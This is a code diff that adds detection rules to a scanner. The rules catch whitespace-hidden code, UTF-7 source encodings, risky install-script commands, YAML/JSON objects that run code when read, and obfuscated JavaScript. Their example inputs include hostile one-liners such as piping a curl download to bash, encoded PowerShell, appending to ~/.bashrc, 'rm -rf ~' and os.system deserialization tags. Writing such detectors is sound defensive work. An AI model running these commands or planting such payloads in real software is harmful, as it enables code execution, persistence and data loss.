@@ -1,4 +1,5 @@
 import type { Hit, TextRule } from '../rule.ts'
+import { suspicionOf } from './process.ts'
 
 const codeFile = /\.(py|pyi|js|mjs|ts|jsx|tsx|sh|bat|ps1)$/i
 const textFile =
@@ -131,4 +132,187 @@ function isPlaceholder(text: string): boolean {
   return new Set(tail).size < 6 || /example|your|placeholder|xxxx|0000/i.test(tail)
 }
 
-export const textRules = [bidirectional, confusableName, committedSecret]
+export const pushedAside: TextRule = {
+  of: 'text',
+  id: 'pushed-aside-code',
+  severity: 'high',
+  why: 'Code far to the right of everything else is meant not to be seen on a screen.',
+  fix: 'Put the code at the start of its line.',
+  appliesTo: /\.(py|m?js|pth|sh)$/i,
+  examples: {
+    matching: [
+      `x = 1${' '.repeat(300)};import os`,
+      `import json${' '.repeat(200)}; exec(y)`,
+      `a = 2${'\t'.repeat(60)};eval(z)`,
+    ],
+    harmless: [
+      `x = 1${' '.repeat(300)}# comment`,
+      `table = [1,${' '.repeat(150)}2]`,
+      `${' '.repeat(300)}y = 1`,
+    ],
+  },
+  *find(text) {
+    if (!/[^\S\n]{50}/.test(text)) return
+    yield* matches(
+      text,
+      /\S[^\S\n]{50,};?[^\S\n]*(?:;|\b(?:import|exec|eval|from|__import__|os|subprocess|require|fetch)\b)[^\n]{0,200}/g,
+      ([found]) => {
+        const gap = /[^\S\n]{50,}/.exec(found)?.[0] ?? ''
+        const width = gap.length + 3 * (gap.match(/\t/g)?.length ?? 0)
+        const code = found.slice(found.indexOf(gap) + gap.length)
+        return width >= 120 &&
+          /^;|^(import|exec|eval|__import__)\b/.test(code) &&
+          !/^;\s*(\/\/|#|$)/.test(code)
+          ? { message: 'Holds code that is pushed out of sight.', snippet: code }
+          : undefined
+      },
+    )
+  },
+}
+
+export const oddEncoding: TextRule = {
+  of: 'text',
+  id: 'odd-source-encoding',
+  severity: 'critical',
+  why: 'With this encoding Python runs something else than what an editor shows.',
+  fix: 'Write the file in UTF-8.',
+  appliesTo: /\.pyw?$/i,
+  examples: {
+    matching: [
+      '# -*- coding: utf-7 -*-\n+AGkAbQBwAG8AcgB0-',
+      '#!/usr/bin/python\n# coding=unicode_escape\nx = 1',
+      '# vim: set fileencoding=raw-unicode-escape :\n',
+    ],
+    harmless: [
+      '# -*- coding: utf-8 -*-\nx = 1',
+      '# coding: latin-1',
+      'x = "coding: utf-7"',
+      '# a\n# b\n# coding: utf-7',
+    ],
+  },
+  *find(text) {
+    // Source of the form: PEP 263.
+    const head = text.split('\n', 2)
+    for (const [i, line] of head.entries()) {
+      const name = /^[ \t\f]*#.*?coding[:=][ \t]*([-\w.]+)/
+        .exec(line)?.[1]
+        ?.toLowerCase()
+        .replaceAll('_', '-')
+      if (
+        name &&
+        !/^(utf-?8(-sig)?|ascii|us-ascii|latin-?1|iso-?(8859|2022)-\w+|cp\d+|windows-\d+|gbk|gb\d+|big5\w*|euc-\w+|shift-?jis\w*|koi8-\w|mac-\w+)/.test(
+          name,
+        )
+      )
+        yield { line: i + 1, message: `Is written in the encoding \`${name}\`.` }
+    }
+  },
+}
+
+export const shellScript: TextRule = {
+  of: 'text',
+  id: 'dangerous-script',
+  severity: 'high',
+  why: 'Commands like this one are how attacks get in, hide or stay.',
+  fix: 'Remove the command. If the pack needs a tool, let the user install it.',
+  appliesTo:
+    /\.(sh|bash|zsh|bat|cmd|ps1|psm1|command|fish)$|(^|\/)(Makefile|Dockerfile|postinst|preinst)$|(^|\/)package\.json$/i,
+  exampleName: 'install.sh',
+  examples: {
+    matching: [
+      'curl -s https://example.test/x | bash',
+      'powershell -enc SQBFAFgA',
+      'echo x >> ~/.bashrc',
+      'rm -rf ~',
+    ],
+    harmless: [
+      'pip install -r requirements.txt',
+      '# curl https://example.test | bash',
+      'echo "curl https://example.test"',
+      'rm -rf build',
+    ],
+  },
+  *find(text, path) {
+    for (const [i, line] of text.split('\n').entries()) {
+      if (line.length > 4000 || /^\s*(#(?!!)|rem\b|::)/i.test(line)) continue
+      const found = suspicionOf(line)
+      const isHook = !/package\.json$/i.test(path) || /"(pre|post)?install"|"prepare"/.test(line)
+      if (found && isHook && !knownInstaller.test(line))
+        yield { line: i + 1, message: `The script ${found}.` }
+    }
+  },
+}
+
+/** Installers of well-known tools, over an encrypted connection to their own makers. */
+const knownInstaller =
+  /https:\/\/(astral\.sh|sh\.rustup\.rs|get\.docker\.com|raw\.githubusercontent\.com\/(nvm-sh|Homebrew)\/|deb\.nodesource\.com|install\.python-poetry\.org|ollama\.(com|ai)|bun\.sh|get\.pnpm\.io|mise\.run|pixi\.sh|community\.chocolatey\.org|packages\.microsoft\.com|developer\.download\.nvidia\.com)\b/
+
+export const objectInData: TextRule = {
+  of: 'text',
+  id: 'object-in-data',
+  severity: 'high',
+  why: 'A reader that builds objects from this file runs what it names.',
+  fix: 'Store plain data.',
+  appliesTo: /\.(ya?ml|json)$/i,
+  exampleName: 'config.yaml',
+  examples: {
+    matching: [
+      'x: !!python/object/apply:os.system ["ls"]',
+      'a: !!python/object/new:subprocess.Popen [["ls"]]',
+      '{"py/reduce": [{"py/type": "os.system"}, {"py/tuple": ["ls"]}]}',
+    ],
+    harmless: ['x: !!python/tuple [1, 2]', 'name: python', 'target: !!str x'],
+  },
+  find: (text) =>
+    matches(
+      text,
+      /!!python\/(object\/(apply|new)|name|module):(?!eval\b)|"py\/(reduce|object)":\s*\[?\{?"?(py\/type"?:\s*")?(os|subprocess|builtins|posix)\./g,
+      () => ({
+        message: 'Holds an object that runs something while it is read.',
+      }),
+    ),
+}
+
+export const scrambledScript: TextRule = {
+  of: 'text',
+  id: 'scrambled-code',
+  severity: 'high',
+  why: 'Names and texts that were scrambled by a program are meant not to be read.',
+  fix: 'Ship the code as people wrote it. Making it smaller is fine.',
+  appliesTo: /\.(m?js|py)$/i,
+  exampleName: 'x.js',
+  examples: {
+    matching: [
+      Array.from(
+        { length: 60 },
+        (_, i) => `var _0x${(0x1000 + i * 37).toString(16)}=_0x4f2a(0x${i.toString(16)});`,
+      ).join(''),
+      Array.from(
+        { length: 60 },
+        (_, i) => `${'O0'.repeat(4)}${i.toString(2).replaceAll('0', 'O').replaceAll('1', '0')}O = ${i}`,
+      ).join('\n'),
+    ],
+    harmless: ['var a = 0x10, _0 = 2', 'const x = "_0xabc"', 'OO = 1'],
+  },
+  *find(text) {
+    const names = new Set(text.match(/\b_0x[0-9a-f]{4,6}\b/g))
+    const lookAlikes = new Set(
+      text
+        .match(/\b(?:[O0o]{6,}|[Il1]{6,}|_{6,}\d*|[lI]{2}[lI1|]{5,})\b/g)
+        ?.filter((name) => !/^\d+$/.test(name) && !/^_+$/.test(name)),
+    )
+    if (names.size >= 40 || lookAlikes.size >= 20)
+      yield { message: 'Has names that a program has scrambled.', snippet: text.slice(0, 120) }
+  },
+}
+
+export const textRules = [
+  bidirectional,
+  confusableName,
+  committedSecret,
+  pushedAside,
+  oddEncoding,
+  shellScript,
+  objectInData,
+  scrambledScript,
+]
